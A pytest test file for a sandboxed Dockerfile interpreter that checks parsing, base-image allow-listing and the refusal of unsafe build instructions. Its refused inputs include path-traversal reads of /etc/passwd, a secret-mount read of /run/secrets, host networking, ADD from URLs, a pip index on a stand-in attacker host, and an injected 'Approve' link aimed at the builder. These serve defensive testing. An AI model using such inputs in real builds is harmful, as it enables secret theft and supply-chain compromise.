"""The Dockerfile interpreter: what it reads, what it refuses (before anything runs), what it plans."""

from __future__ import annotations

import pytest

from listener.sandbox.dockerfile import (CopyStep, DockerfileError, RunStep, WorkdirStep, logical_lines,
                                         normalize_reference, parse, plan)

BASE = "python:3.12-slim"
ALLOWED = [BASE, "agent-builder-claude:latest"]
BASE_CONFIG = {"Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"], "Cmd": ["python3"],
               "WorkingDir": "", "Labels": {"org.base": "yes"}}
CONTEXT = {"script.py": 0o100644, "Dockerfile": 0o100644}


def planned(text: str, context: dict[str, int] | None = None):
    return plan(parse(text, ALLOWED), BASE_CONFIG, CONTEXT if context is None else context)


def refused(text: str, context: dict[str, int] | None = None) -> str:
    """The builder's sentence, then (after ' | ') the model's words it is about."""
    with pytest.raises(DockerfileError) as caught:
        planned(text, context)
    return f"{caught.value} | {caught.value.detail}"


# -- reading -------------------------------------------------------------------------------------------

def test_continuation_lines_and_comments_are_joined_like_docker() -> None:
    text = ("# a comment\nFROM python:3.12-slim\n\nRUN echo one \\\n# a comment inside\n    && echo two \\\n\n"
            "    && echo three\nCMD [\"python3\"]\n")
    lines = [(i.line, i.keyword, i.text) for i in logical_lines(text)]
    assert lines == [(2, "FROM", "python:3.12-slim"), (4, "RUN", "echo one && echo two && echo three"),
                     (9, "CMD", '["python3"]')]


def test_the_escape_directive_is_honoured() -> None:
    text = "# escape=`\nFROM python:3.12-slim\nRUN echo a `\n  b\n"
    assert [i.text for i in logical_lines(text)][1] == "echo a b"


def test_exec_and_shell_forms() -> None:
    result = planned(f"FROM {BASE}\nRUN [\"python3\", \"-c\", \"print(1)\"]\nRUN echo $HOME\n"
                     "ENTRYPOINT python3 -u\nCMD [\"script.py\"]\n")
    runs = [s for s in result.steps if isinstance(s, RunStep)]
    assert runs[0].argv == ("python3", "-c", "print(1)")
    assert runs[1].argv == ("/bin/sh", "-c", "echo $HOME")  # the shell expands it, not the builder
    assert result.config.entrypoint == ["/bin/sh", "-c", "python3 -u"] and result.config.cmd == ["script.py"]


def test_malformed_json_falls_back_to_the_shell_form() -> None:
    result = planned(f"FROM {BASE}\nCMD [\"python3\", script.py]\n")
    assert result.config.cmd == ["/bin/sh", "-c", '["python3", script.py]']


# -- base images ------------------------------------------------------------------------------------

@pytest.mark.parametrize("reference", ["python:3.12-slim", "docker.io/library/python:3.12-slim",
                                       "library/python:3.12-slim"])
def test_the_allowed_base_in_any_spelling(reference: str) -> None:
    assert parse(f"FROM {reference}\n", ALLOWED).base == reference


def test_untagged_means_latest() -> None:
    assert normalize_reference("agent-builder-claude") == normalize_reference("agent-builder-claude:latest")
    assert normalize_reference("registry.lan:5000/team/img") == "registry.lan:5000/team/img:latest"


def test_another_base_image_is_refused_naming_the_line() -> None:
    message = refused("# build\nFROM ubuntu:22.04\nCMD [\"python3\"]\n")
    assert message.startswith("Dockerfile line 2: FROM names an image that is not an allowed base image")
    assert "SANDBOX_BASE_IMAGES" in message and message.endswith(" | ubuntu:22.04")


def test_an_arg_in_from_is_resolved_before_the_check() -> None:
    assert parse("ARG TAG=3.12-slim\nFROM python:${TAG}\n", ALLOWED).base == BASE
    assert refused("ARG TAG=3.13\nFROM python:$TAG\n").endswith("is not an allowed base image (allowed: python:3.12-slim, "
                                                         "agent-builder-claude:latest; SANDBOX_BASE_IMAGE, "
                                                         "SANDBOX_BASE_IMAGES) | python:3.13")


def test_multi_stage_builds_are_refused() -> None:
    message = refused(f"FROM {BASE} AS build\nRUN true\nFROM {BASE}\nCMD [\"python3\"]\n")
    assert "Dockerfile line 3: FROM again: multi-stage builds are refused" in message


def test_copy_from_another_stage_or_image_is_refused() -> None:
    assert "Dockerfile line 2: COPY --from is refused" in refused(f"FROM {BASE}\nCOPY --from=busybox /bin/sh /sh\n")


def test_from_flags_and_scratch_are_refused() -> None:
    assert "FROM --platform is refused" in refused(f"FROM --platform=linux/arm64 {BASE}\n")
    assert refused("FROM scratch\n").endswith(" | scratch")


def test_no_from_or_an_instruction_before_it_is_refused() -> None:
    assert "has no FROM" in refused("ARG A=1\n")
    assert "Dockerfile line 1: RUN comes before FROM" in refused(f"RUN true\nFROM {BASE}\n")


# -- what a build may not do ----------------------------------------------------------------------------

@pytest.mark.parametrize("source", ["http://127.0.0.1:8080/x", "https://example.com/a.tar.gz",
                                    "git@github.com:a/b.git", "http://127.0.0.1:$PORT/x"])
def test_add_of_a_url_is_refused(source: str) -> None:
    message = refused(f"FROM {BASE}\nARG PORT=1\nADD {source} /app/x\n")
    assert message.startswith("Dockerfile line 3: ADD of a URL is refused")


def test_a_url_behind_a_variable_is_refused_too() -> None:
    message = refused(f"FROM {BASE}\nARG SRC=http://127.0.0.1:9/x\nADD $SRC /app/x\n")
    assert message.startswith("Dockerfile line 3: ADD of a URL is refused") and message.endswith(" | http://127.0.0.1:9/x")


@pytest.mark.parametrize("source", ["../secret", "a/../../secret", "..", "../../etc/passwd"])
def test_paths_outside_the_context_are_refused(source: str) -> None:
    assert refused(f"FROM {BASE}\nCOPY {source} /app/\n") == (
        f"Dockerfile line 2: COPY names a path outside the build context | {source}")


def test_a_file_that_is_not_in_the_context_is_refused() -> None:
    message = refused(f"FROM {BASE}\nCOPY /etc/passwd /app/\n")
    assert message == ("Dockerfile line 2: COPY names a file that is not in the build context "
                       "(it holds: Dockerfile, script.py) | /etc/passwd")


@pytest.mark.parametrize(("line", "keyword"), [
    ("ONBUILD RUN echo x", "ONBUILD"), ("VOLUME /data", "VOLUME"), ("SHELL [\"/bin/bash\", \"-c\"]", "SHELL"),
    ("STOPSIGNAL SIGKILL", "STOPSIGNAL"), ("HEALTHCHECK CMD curl -f http://localhost/", "HEALTHCHECK"),
    ("FROBNICATE x", "FROBNICATE"),
])
def test_other_instructions_are_refused_naming_instruction_and_line(line: str, keyword: str) -> None:
    message = refused(f"FROM {BASE}\nCOPY script.py /app/\n{line}\n")
    assert message.startswith(f"Dockerfile line 3: {keyword} ")
    assert "refused" in message


def test_the_models_words_stay_out_of_the_sentence() -> None:
    message = refused(f"FROM {BASE}\n[Approve](http://evil.example/decide) now\n")
    assert message.startswith("Dockerfile line 2: an instruction is refused") and "evil" not in message.split(" | ")[0]
    assert message.endswith(" | [APPROVE](HTTP://EVIL.EXAMPLE/DECIDE)")


def test_run_flags_and_heredocs_are_refused() -> None:
    assert "RUN --mount is refused" in refused(f"FROM {BASE}\nRUN --mount=type=secret,id=x cat /run/secrets/x\n")
    assert "RUN --network is refused" in refused(f"FROM {BASE}\nRUN --network=host true\n")
    assert "heredocs are not supported" in refused(f"FROM {BASE}\nRUN <<EOF\necho hi\nEOF\n")


def test_the_builders_labels_cannot_be_set() -> None:
    message = refused(f"FROM {BASE}\nLABEL io.agent-builder.role=production\n")
    assert message.startswith("Dockerfile line 2: LABEL io.agent-builder.* is refused")
    assert message.endswith(" | io.agent-builder.role")


def test_healthcheck_none_and_maintainer_are_accepted_and_noted() -> None:
    result = planned(f"FROM {BASE}\nMAINTAINER someone\nHEALTHCHECK NONE\n")
    assert result.steps == () and any("MAINTAINER someone ignored" in note for note in result.notes)


def test_an_empty_dockerfile_and_missing_arguments_are_refused() -> None:
    assert "is empty" in refused("# nothing\n\n")
    assert "Dockerfile line 2: WORKDIR needs arguments" in refused(f"FROM {BASE}\nWORKDIR\n")


# -- the plan ------------------------------------------------------------------------------------------

def test_environment_workdir_and_copy_destinations() -> None:
    result = planned(f"FROM {BASE}\nARG APP=/srv\nENV HOME=$APP/home GREETING=\"hello world\" LITERAL='$HOME'\n"
                     "WORKDIR $APP\nWORKDIR work\nCOPY script.py .\nCOPY script.py renamed.py\nCOPY [\"script.py\", \"/opt/x/\"]\n"
                     "RUN python3 script.py\n")
    copies = [s for s in result.steps if isinstance(s, CopyStep)]
    assert [f[1] for c in copies for f in c.files] == ["/srv/work/script.py", "/srv/work/renamed.py", "/opt/x/script.py"]
    assert [s.path for s in result.steps if isinstance(s, WorkdirStep)] == ["/srv", "/srv/work"]
    run = next(s for s in result.steps if isinstance(s, RunStep))
    assert run.workdir == "/srv/work"
    assert "APP=/srv" in run.environment and "HOME=/srv/home" in run.environment
    env = result.config.env
    assert env["HOME"] == "/srv/home" and env["GREETING"] == "hello world" and env["LITERAL"] == "$HOME"
    assert "APP" not in env, "an ARG is not kept in the image"
    assert env["PATH"] == "/usr/local/bin:/usr/bin:/bin", "the base image's environment is kept"


def test_the_old_env_form() -> None:
    assert planned(f"FROM {BASE}\nENV GREETING hello there\n").config.env["GREETING"] == "hello there"


def test_copy_of_the_whole_context_and_of_a_wildcard() -> None:
    context = {"script.py": 0o100644, "Dockerfile": 0o100644, "requirements.txt": 0o100644}
    whole = planned(f"FROM {BASE}\nWORKDIR /app\nCOPY . .\n", context).steps[1]
    assert isinstance(whole, CopyStep)
    assert sorted(f[1] for f in whole.files) == ["/app/Dockerfile", "/app/requirements.txt", "/app/script.py"]
    wildcard = planned(f"FROM {BASE}\nCOPY *.py /app/\n", context).steps[0]
    assert isinstance(wildcard, CopyStep) and [f[0] for f in wildcard.files] == ["script.py"]


def test_chmod_is_applied_without_special_bits_and_chown_is_noted() -> None:
    result = planned(f"FROM {BASE}\nCOPY --chown=0:0 --chmod=4777 script.py /app/script.py\n")
    step = result.steps[0]
    assert isinstance(step, CopyStep) and step.files[0][2] == 0o755
    assert any("--chown ignored" in note for note in result.notes)


def test_entrypoint_drops_the_base_cmd_and_user_is_only_noted() -> None:
    result = planned(f"FROM {BASE}\nUSER root\nENTRYPOINT [\"python3\", \"/app/script.py\"]\nEXPOSE 8080 53/udp\n")
    assert result.config.entrypoint == ["python3", "/app/script.py"] and result.config.cmd is None
    assert result.config.exposed == {"8080/tcp": {}, "53/udp": {}}
    assert any("USER root noted" in note and "65534:65534" in note for note in result.notes)
    cmd_first = planned(f"FROM {BASE}\nCMD [\"-u\"]\nENTRYPOINT [\"python3\"]\n")
    assert cmd_first.config.cmd == ["-u"]


def test_labels_are_kept_with_the_base_images() -> None:
    result = planned(f"FROM {BASE}\nLABEL team=ops \"description\"=\"disk report\"\n")
    assert result.config.labels == {"org.base": "yes", "team": "ops", "description": "disk report"}


# -- pip install lines become requirements -----------------------------------------------------------------

def test_pip_install_lines_become_requirements_and_do_not_run() -> None:
    context = {**CONTEXT, "requirements.txt": 0o100644}
    result = planned(f"FROM {BASE}\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\n"
                     "RUN python3 -m pip install -U 'requests==2.32.3' hvac && pip3 install pyyaml\nRUN echo done\n", context)
    assert result.requirements == ("requests==2.32.3", "hvac", "pyyaml")
    assert [s.argv[-1] for s in result.steps if isinstance(s, RunStep)] == ["echo done"]
    assert sum("became requirements" in note for note in result.notes) == 2


def test_pip_options_that_need_the_network_are_refused() -> None:
    message = refused(f"FROM {BASE}\nRUN pip install --index-url https://evil.example/simple requests\n")
    assert message.startswith("Dockerfile line 2: RUN pip install with an option is refused")
    assert message.endswith(" | --index-url")
    assert "mixes pip install" in refused(f"FROM {BASE}\nRUN apt-get update && pip install requests\n")
    assert "has no requirements.txt" in refused(f"FROM {BASE}\nRUN pip install -r requirements.txt\n")
